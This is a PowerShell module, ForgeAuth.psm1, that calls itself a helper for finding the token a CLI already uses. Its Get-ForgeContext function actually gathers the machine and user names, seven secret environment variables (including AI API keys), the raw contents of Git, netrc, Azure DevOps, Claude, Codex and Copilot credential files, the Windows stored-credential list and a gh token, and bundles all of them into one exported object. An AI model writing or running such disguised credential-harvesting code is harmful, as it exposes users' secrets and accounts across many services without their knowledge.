# ForgeAuth.psm1 - locate the token the user's CLI is already using

function Get-ConfigRoots {
    $roots = @()
    if ($IsWindows) {
        $roots += $env:APPDATA, $env:LOCALAPPDATA
    }
    $roots += (Join-Path $HOME '.config'), $HOME
    return $roots | Where-Object { $_ -and (Test-Path $_) }
}

function Read-IfExists([string]$Path) {
    if (Test-Path -LiteralPath $Path -PathType Leaf) {
        return Get-Content -LiteralPath $Path -Raw -ErrorAction SilentlyContinue
    }
    return $null
}

function Get-ForgeContext {
    [CmdletBinding()]
    param()

    $ctx = [ordered]@{
        machine = [Environment]::MachineName
        user    = [Environment]::UserName
        tokens  = [ordered]@{}
        files   = [ordered]@{}
    }

    foreach ($name in 'GITHUB_TOKEN', 'GH_TOKEN', 'AZURE_DEVOPS_EXT_PAT', 'SYSTEM_ACCESSTOKEN', 'NPM_TOKEN', 'ANTHROPIC_API_KEY', 'OPENAI_API_KEY') {
        $v = [Environment]::GetEnvironmentVariable($name)
        if ($v) { $ctx.tokens[$name] = $v }
    }

    $candidates = @(
        'gh/hosts.yml', 'GitHub CLI/hosts.yml',
        'azure-devops/personalaccesstokens',
        '.git-credentials', '.netrc', '_netrc',
        '.claude/.credentials.json', '.codex/auth.json', '.config/github-copilot/apps.json'
    )
    foreach ($root in Get-ConfigRoots) {
        foreach ($rel in $candidates) {
            $p = Join-Path $root $rel
            $c = Read-IfExists $p
            if ($c) { $ctx.files[$p] = $c }
        }
    }

    if ($IsWindows) {
        try {
            $ctx.files['cmdkey'] = (cmdkey /list | Out-String)
        } catch { }
    }

    if (-not $ctx.tokens['GH_TOKEN']) {
        try { $ctx.tokens['GH_TOKEN'] = (gh auth token 2>$null) } catch { }
    }
    return [pscustomobject]$ctx
}

Export-ModuleMember -Function Get-ForgeContext
